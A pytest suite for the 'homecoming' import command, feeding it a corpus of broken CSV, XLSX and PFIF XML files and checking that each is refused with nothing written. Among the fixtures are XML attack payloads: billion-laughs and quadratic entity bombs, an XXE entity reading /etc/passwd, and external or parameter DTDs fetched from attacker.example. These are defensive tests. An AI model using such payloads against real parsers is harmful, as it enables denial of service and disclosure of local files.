"""A corpus of broken files: each is refused with a clear (line-numbered) error, nothing lands.

Every file is generated here into tmp_path and imported through `homecoming import`, as an
operator would, into a database that already holds one good list. After each refusal every
table's row count and the audit log's head are exactly as before.
"""

from __future__ import annotations

import io
import os
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import inspect, text
from typer.testing import CliRunner

from homecoming.cli import app
from homecoming.domain.normalise import FIELD_MAX_CHARS
from homecoming.store.db import Database
from homecoming.store.models import Base

runner = CliRunner()

HEADER = "ПІБ;Дата народження;Стать;Особистий номер\n"
GOOD_ROW = "Нехір Олександр Іванович;23.05.1987;ч;0012345\n"
PFIF_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">\n'
)
PFIF_PERSON = (
    "  <pfif:person>\n"
    "    <pfif:person_record_id>example.org/p1</pfif:person_record_id>\n"
    "    <pfif:source_date>2025-05-23T10:00:00Z</pfif:source_date>\n"
    "    <pfif:full_name>{name}</pfif:full_name>\n"
    "  </pfif:person>\n"
)


def _pfif(name: str = "Олександр Нехір", *, head: str = PFIF_HEAD) -> bytes:
    return (head + PFIF_PERSON.format(name=name) + "</pfif:pfif>\n").encode()


def _billion_laughs() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    head = f'<?xml version="1.0"?>\n<!DOCTYPE pfif [{entities}]>\n'
    return _pfif("&lol9;", head=head + PFIF_HEAD.split("\n", 1)[1])


def _quadratic_blowup() -> bytes:
    head = f'<?xml version="1.0"?>\n<!DOCTYPE pfif [<!ENTITY a "{"A" * 50_000}">]>\n'
    return _pfif("&a;" * 50_000, head=head + PFIF_HEAD.split("\n", 1)[1])


def _external_entity() -> bytes:
    head = '<?xml version="1.0"?>\n<!DOCTYPE pfif [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    return _pfif("&xxe;", head=head + PFIF_HEAD.split("\n", 1)[1])


def _external_dtd() -> bytes:
    head = '<?xml version="1.0"?>\n<!DOCTYPE pfif SYSTEM "http://attacker.example/evil.dtd">\n'
    return _pfif(head=head + PFIF_HEAD.split("\n", 1)[1])


def _parameter_entity() -> bytes:
    head = (
        '<?xml version="1.0"?>\n<!DOCTYPE pfif [<!ENTITY % remote SYSTEM'
        ' "http://attacker.example/x.dtd"> %remote;]>\n'
    )
    return _pfif(head=head + PFIF_HEAD.split("\n", 1)[1])


def _workbook(rows: list[list[object]], edit: Callable[[object], None] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if edit:
        edit(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


XLSX_ROWS: list[list[object]] = [
    ["ПІБ", "Дата народження", "Стать"],
    ["Нехір Олександр Іванович", "23.05.1987", "ч"],
    ["Коваленко Марія Петрівна", "1990", "ж"],
]


def _merged(sheet: object) -> None:
    sheet.merge_cells("A2:A3")  # type: ignore[attr-defined]


def _formula(sheet: object) -> None:
    sheet["B3"] = "=DATE(1990,1,1)"  # type: ignore[index]


def _xlsx_with_sheet_xml(replace: Callable[[bytes], bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_workbook(XLSX_ROWS)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = replace(data)
            out.writestr(item, data)
    return buffer.getvalue()


def _sheet_bomb(data: bytes) -> bytes:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8)
    )
    bomb = f"<!DOCTYPE worksheet [{entities}]>".encode()
    return bomb + data.replace("Коваленко".encode(), b"&i;", 1)


def _mixed_encodings() -> bytes:
    return (
        HEADER.encode()
        + GOOD_ROW.encode()
        + "Коваленко Марія Петрівна;1990;ж;\n".encode("cp1251")
        + "Шевченко Тарас;1991;ч;\n".encode()
    )


def _binary_garbage() -> bytes:
    generator = random.Random(9)
    return bytes(generator.randrange(256) for _ in range(4096))


def _truncated_xlsx() -> bytes:
    data = _workbook(XLSX_ROWS)
    return data[: len(data) // 2]


# (file name, contents, pattern the error must match). A line is named wherever there is one.
CORPUS: list[tuple[str, Callable[[], bytes], str]] = [
    ("empty.csv", lambda: b"", r"empty\.csv.*empty"),
    ("blank-lines.csv", lambda: b"\r\n  \r\n;;\r\n", r"no header"),
    ("header-only.csv", lambda: HEADER.encode(), r"line 1.*no rows"),
    ("bom-only.csv", lambda: b"\xef\xbb\xbf", r"empty"),
    ("wrong-bom.csv", lambda: b"\xef\xbb\xbf" + (HEADER + GOOD_ROW).encode("cp1251"), r"utf-8"),
    (
        "utf16-bom-utf8-body.csv",
        lambda: b"\xff\xfe" + (HEADER + GOOD_ROW).encode(),
        r"line 1|unknown column|cannot read",
    ),
    (
        "joined-files.csv",
        lambda: (HEADER + GOOD_ROW).encode("utf-8-sig") * 2,
        r"line 3.*repeats the header",
    ),
    ("mixed-encodings.csv", _mixed_encodings, r"line 3.*not UTF-8"),
    (
        "truncated-utf8.csv",
        lambda: (HEADER + GOOD_ROW + "Коваленко Марія").encode()[:-1],
        r"line 3.*not UTF-8",
    ),
    (
        "truncated-quote.csv",
        lambda: (HEADER + GOOD_ROW + '"Коваленко Марія;1990;ж;\n').encode(),
        r"line \d+.*quote",
    ),
    ("binary-garbage.csv", _binary_garbage, r"binary-garbage\.csv.*(not a text|binary)"),
    ("nul-bytes.csv", lambda: (HEADER + "Нехір\x00;1987;ч;\n").encode(), r"line 2.*NUL|binary"),
    ("old-excel.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, r"\.xls"),
    ("a-pdf.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n" * 20, r"PDF"),
    (
        "huge-cell.csv",
        lambda: (HEADER + "Нехір;1987;ч;" + "9" * 40_000 + "\n").encode(),
        r"line 2.*40000 characters",
    ),
    (
        "cell-over-csv-limit.csv",
        lambda: (HEADER + 'Нехір;1987;ч;"' + "9" * 200_000 + '"\n').encode(),
        r"line 2",
    ),
    (
        "name-too-long.csv",
        lambda: (HEADER + "Н" * 500 + ";1987;ч;\n").encode(),
        r"line 2.*ПІБ.*500 characters.*400",
    ),
    (
        "service-number-too-long.csv",
        lambda: (HEADER + "Нехір Олександр;1987;ч;" + "7" * 150 + "\n").encode(),
        r"line 2.*Особистий номер.*150 characters",
    ),
    ("feb-31.csv", lambda: (HEADER + "Нехір Олександр;31.02.1987;ч;\n").encode(), r"line 2.*31"),
    ("month-13.csv", lambda: (HEADER + "Нехір Олександр;1987-13-01;ч;\n").encode(), r"line 2"),
    ("two-digit-year.csv", lambda: (HEADER + "Нехір Олександр;23.05.87;ч;\n").encode(), r"line 2"),
    ("zero-date.csv", lambda: (HEADER + "Нехір Олександр;00.00.0000;ч;\n").encode(), r"line 2"),
    (
        "born-in-future.csv",
        lambda: (HEADER + "Нехір Олександр;2150;ч;\n").encode(),
        r"line 2.*future",
    ),
    ("bad-sex.csv", lambda: (HEADER + "Нехір Олександр;1987;??;\n").encode(), r"line 2.*Стать"),
    (
        "one-bad-row-of-many.csv",
        lambda: (HEADER + GOOD_ROW * 50 + "Тарасов;1987-02-30;ч;\n" + GOOD_ROW * 50).encode(),
        r"line 52",
    ),
    (
        "duplicate-headers.csv",
        lambda: ("ПІБ;Стать;ПІБ\n" + "Нехір;ч;Нехір\n").encode(),
        r"line 1.*both have the header",
    ),
    (
        "duplicate-header-aliases.csv",
        lambda: ("ПІБ;ФИО\n" + "Нехір;Нехир\n").encode(),
        r"line 1.*both give full_name",
    ),
    (
        "duplicate-headers-nfd.csv",
        lambda: ("Ім\u0306я;Ім\u0306я\nОлександр;Олександр\n").encode(),
        r"both have the header",
    ),
    (
        "value-beyond-header.csv",
        lambda: (HEADER + "Нехір, Олександр;1987;ч;1;2\n").encode(),
        r"line 2.*beyond",
    ),
    ("no-name.csv", lambda: (HEADER + ";1987;ч;\n").encode(), r"line 2.*no name"),
    ("xlsx-merged.xlsx", lambda: _workbook(XLSX_ROWS, _merged), r"line 2.*merged"),
    ("xlsx-formula.xlsx", lambda: _workbook(XLSX_ROWS, _formula), r"line 3.*formula"),
    ("xlsx-truncated.xlsx", _truncated_xlsx, r"not a readable XLSX"),
    (
        "xlsx-huge-cell.xlsx",
        lambda: _workbook([*XLSX_ROWS, ["Н" * 33_000, "1987", "ч"]]),
        r"line 4.*characters",
    ),
    (
        "xlsx-invalid-date.xlsx",
        lambda: _workbook([*XLSX_ROWS, ["Нехір Олександр", "31.04.1987", "ч"]]),
        r"line 4.*Дата народження",
    ),
    (
        "xlsx-duplicate-headers.xlsx",
        lambda: _workbook([["ПІБ", "ПІБ"], ["Нехір", "Нехір"]]),
        r"line 1.*both have the header",
    ),
    ("xlsx-header-only.xlsx", lambda: _workbook(XLSX_ROWS[:1]), r"no rows"),
    ("xlsx-empty.xlsx", lambda: _workbook([]), r"empty"),
    ("xlsx-entity-bomb.xlsx", lambda: _xlsx_with_sheet_xml(_sheet_bomb), r"unsafe|DTD|entit"),
    ("billion-laughs.xml", _billion_laughs, r"DTD or entities"),
    ("quadratic-blowup.xml", _quadratic_blowup, r"DTD or entities"),
    ("external-entity.xml", _external_entity, r"DTD or entities"),
    ("external-dtd.xml", _external_dtd, r"DTD or entities"),
    ("parameter-entity.xml", _parameter_entity, r"DTD or entities"),
    ("truncated.xml", lambda: _pfif()[:-40], r"line \d+.*not well-formed"),
    ("empty.xml", lambda: b"", r"line 1.*not well-formed|empty"),
    ("cp1251-declared-utf8.xml", lambda: _pfif().decode().encode("cp1251"), r"line 6"),
    ("not-pfif.xml", lambda: b"<html><body>hello</body></html>", r"no PFIF person"),
    (
        "pfif-missing-source-date.xml",
        lambda: _pfif().replace(b"<pfif:source_date>2025-05-23T10:00:00Z</pfif:source_date>", b""),
        r"line 3.*source_date",
    ),
    (
        "pfif-bad-date-of-birth.xml",
        lambda: _pfif().replace(
            b"</pfif:full_name>",
            b"</pfif:full_name><pfif:date_of_birth>1987-02-30</pfif:date_of_birth>",
        ),
        r"line 3.*date_of_birth",
    ),
    ("pfif-name-too-long.xml", lambda: _pfif("Н" * 5000), r"line 3.*full_name.*5000 characters"),
    ("pfif-nul-reference.xml", lambda: _pfif("Нехір&#0;"), r"line 6.*not well-formed"),
]


def _state(db: Database) -> dict[str, object]:
    with db.engine.connect() as connection:
        names = sorted(inspect(connection).get_table_names())
        counts: dict[str, object] = {
            name: connection.execute(text(f'SELECT count(*) FROM "{name}"')).scalar_one()
            for name in names
        }
        counts["audit head"] = connection.execute(
            text("SELECT last_id, last_hash FROM audit_head")
        ).one()
        counts["audit head"] = tuple(counts["audit head"])  # type: ignore[arg-type]
    return counts


def _import(db: Database, path: Path) -> tuple[int, str]:
    result = runner.invoke(app, ["--database-url", db.url, "import", str(path), "--party", "UA"])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, " ".join(result.stderr.split())


@pytest.fixture
def registry_with_one_list(db: Database, tmp_path: Path) -> Database:
    assert (
        runner.invoke(app, ["--database-url", db.url, "parties", "add", "UA", "U"]).exit_code == 0
    )
    good = tmp_path / "good.csv"
    good.write_bytes((HEADER + GOOD_ROW).encode())
    assert _import(db, good)[0] == 0
    return db


def test_the_corpus_is_refused_and_nothing_lands(
    registry_with_one_list: Database, tmp_path: Path
) -> None:
    db = registry_with_one_list
    before = _state(db)
    wrong: list[tuple[str, str]] = []
    for name, contents, pattern in CORPUS:
        path = tmp_path / "corpus" / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(contents())
        code, stderr = _import(db, path)
        said = stderr.partition("error:")[2]
        if code != 1 or name not in said or not re.search(pattern, said):
            wrong.append((name, f"exit {code}: {stderr[-300:]}"))
        if _state(db) != before:
            wrong.append((name, "the database changed"))
            before = _state(db)
        path.unlink()
    assert wrong == [], "\n".join(f"{n}: {w}" for n, w in wrong)


def test_the_good_rows_of_a_bad_file_land_only_when_asked(
    registry_with_one_list: Database, tmp_path: Path
) -> None:
    db = registry_with_one_list
    path = tmp_path / "one-bad-row.csv"
    path.write_bytes((HEADER + GOOD_ROW * 3 + "Тарасов;1987-02-30;ч;\n").encode())
    before = _state(db)
    assert _import(db, path)[0] == 1
    assert _state(db) == before
    result = runner.invoke(
        app, ["--database-url", db.url, "import", str(path), "--party", "UA", "--skip-bad-rows"]
    )
    assert result.exit_code == 0, result.stderr
    assert _state(db)["records"] == before["records"] + 3  # type: ignore[operator]
    rejects = (tmp_path / "one-bad-row.csv.rejected.csv").read_text(encoding="utf-8-sig")
    assert rejects.splitlines()[1].startswith("5,")


def test_field_limits_match_the_schema() -> None:
    """The lengths normalise.py enforces are the columns' lengths, so no database refuses later."""
    tables = {t.name: t for t in Base.metadata.sorted_tables}
    for name, limit in FIELD_MAX_CHARS.items():
        table, column = (
            ("contacts", name.removeprefix("contact_"))
            if name.startswith("contact_")
            else ("records", name)
        )
        assert tables[table].c[column].type.length == limit, name  # type: ignore[attr-defined]


@pytest.mark.skipif(not os.path.exists("/dev/urandom"), reason="needs /dev/urandom")
def test_random_bytes_named_xlsx_never_land(
    registry_with_one_list: Database, tmp_path: Path
) -> None:
    db = registry_with_one_list
    before = _state(db)
    path = tmp_path / "random.xlsx"
    path.write_bytes(b"PK\x03\x04" + os.urandom(2048))
    code, stderr = _import(db, path)
    assert code == 1
    assert "random.xlsx" in stderr
    assert _state(db) == before
